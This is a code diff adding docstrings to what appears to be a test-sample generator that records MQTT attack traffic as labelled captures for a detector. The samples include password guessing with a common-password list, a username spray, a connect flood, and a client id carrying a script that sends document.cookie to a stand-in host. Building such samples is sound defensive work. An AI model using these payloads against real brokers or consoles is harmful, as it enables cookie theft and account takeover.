@@ -26,6 +26,7 @@ def passwords(lab, **users):
 
 @sample("mqtt/anonymous-accepted.pcap", {"mqtt_anonymous_accepted": 1})
 def anonymous_accepted(lab, name):
+    """Two clients without user name and password, 3.1.1 and 5.0, let in by an open Mosquitto."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         for number, protocol in ((30, 4), (31, V5)):
             with Device(f"pump-{number}", CLIENTS[number], protocol=protocol) as device:
@@ -34,6 +35,7 @@ def anonymous_accepted(lab, name):
 
 @sample("mqtt/anonymous-refused.pcap", {"mqtt_anonymous_refused": 2})
 def anonymous_refused(lab, name):
+    """Two clients without user name and password, 3.1.1 and 5.0, refused by a Mosquitto with allow_anonymous false."""
     with lab.broker(*passwords(lab, pump="a word")), lab.capture(name):
         Device("pump-30", CLIENTS[30]).close()
         Device("pump-31", CLIENTS[31], protocol=V5).close()
@@ -41,6 +43,7 @@ def anonymous_refused(lab, name):
 
 @sample("mqtt/anonymous-outside.pcap", {"mqtt_anonymous_from_outside": 1})
 def anonymous_outside(lab, name):
+    """A client without user name and password from a public address (203.0.113.9), let in."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         with Device("visitor", OUTSIDE_CLIENT) as device:
             report(device)
@@ -48,6 +51,7 @@ def anonymous_outside(lab, name):
 
 @sample("mqtt/client-outside.pcap", {"mqtt_client_from_outside": 1})
 def client_outside(lab, name):
+    """A client with a user name from a public address, let in."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         with Device("remote-hand", OUTSIDE_CLIENT, username="field") as device:
             report(device)
@@ -55,6 +59,7 @@ def client_outside(lab, name):
 
 @sample("mqtt/broker-outside.pcap", {"mqtt_broker_outside": 1})
 def broker_outside(lab, name):
+    """A client inside that talks to a broker at a public address (198.51.100.7)."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         with Device("meter", CLIENTS[32], username="meter", server=OUTSIDE_SERVER) as device:
             report(device, "vendor/meter/32")
@@ -62,6 +67,7 @@ def broker_outside(lab, name):
 
 @sample("mqtt/credentials-clear.pcap", {"mqtt_credentials_in_clear": 2})
 def credentials_clear(lab, name):
+    """Two clients that send user name and password; one of them connects three times."""
     with lab.broker(*passwords(lab, boiler="kettle-and-hob", pump="a word")), lab.capture(name):
         for turn in range(3):
             with Device("boiler", CLIENTS[33], username="boiler", password="kettle-and-hob") as device:
@@ -72,6 +78,7 @@ def credentials_clear(lab, name):
 
 @sample("mqtt/default-credentials.pcap", {"mqtt_credentials_in_clear": 1, "mqtt_default_credentials": 1})
 def default_credentials(lab, name):
+    """A client that logs in as admin with the password public, and succeeds."""
     with lab.broker(*passwords(lab, admin="public")), lab.capture(name):
         with Device("console", CLIENTS[35], username="admin", password="public") as device:
             report(device)
@@ -81,9 +88,10 @@ def default_credentials(lab, name):
     "mqtt_credentials_in_clear": 1, "mqtt_default_credentials": 1, "mqtt_password_guessing": 1,
     "mqtt_refused_logins": 1})
 def password_guessing(lab, name):
+    """One host tries a list of passwords for one user, each on a connection of its own (own bytes)."""
     words = ["123456", "admin", "letmein", "qwerty", "sesame", "welcome", "abc123", "dragon", "monkey", "master",
-             "shadow", "summer", "winter", "secret", "iloveyou", "trustno1", "starwars", "whatever", "football", "hunter2",
-             "baseball", "princess"]
+             "shadow", "summer", "winter", "secret", "iloveyou", "trustno1", "starwars", "whatever", "football",
+             "hunter2", "baseball", "princess"]
     with lab.broker(*passwords(lab, admin="not in the list")), lab.capture(name):
         for word in words:
             with RawClient(CLIENTS[36]) as attacker:
@@ -103,6 +111,7 @@ def stale_password(lab, name):
 @sample("mqtt/username-spray.pcap", {
     "mqtt_credentials_in_clear": 1, "mqtt_refused_logins": 1, "mqtt_username_spray": 1})
 def username_spray(lab, name):
+    """One host tries one password for two dozen users (own bytes)."""
     with lab.broker(*passwords(lab, pump="a word")), lab.capture(name):
         for number in range(24):
             with RawClient(CLIENTS[38]) as attacker:
@@ -122,6 +131,7 @@ def nmap_probe(lab, name):
 
 @sample("mqtt/wildcard-identity.pcap", {"mqtt_wildcard_in_identity": 2})
 def wildcard_identity(lab, name):
+    """Clients that call themselves # and +, and a harmless one with a plus sign inside its id (own bytes)."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         with RawClient(CLIENTS[52]) as attacker:
             attacker.enter("#", username="anybody")
@@ -133,6 +143,7 @@ def wildcard_identity(lab, name):
 
 @sample("mqtt/markup-identity.pcap", {"mqtt_markup_in_identity": 1})
 def markup_identity(lab, name):
+    """A client whose id is a script for the broker's web console (own bytes)."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         with RawClient(CLIENTS[54]) as attacker:
             attacker.enter("<script>fetch('//203.0.113.9/'+document.cookie)</script>", username="x")
@@ -168,6 +179,7 @@ def reconnects(lab, name):
 
 @sample("mqtt/connect-flood.pcap.zst", {"mqtt_connect_flood": 1})
 def connect_flood(lab, name):
+    """One host opens 130 connections within seconds and keeps them (own bytes)."""
     with lab.broker("allow_anonymous true"), lab.capture(name):
         clients = []
         for number in range(130):
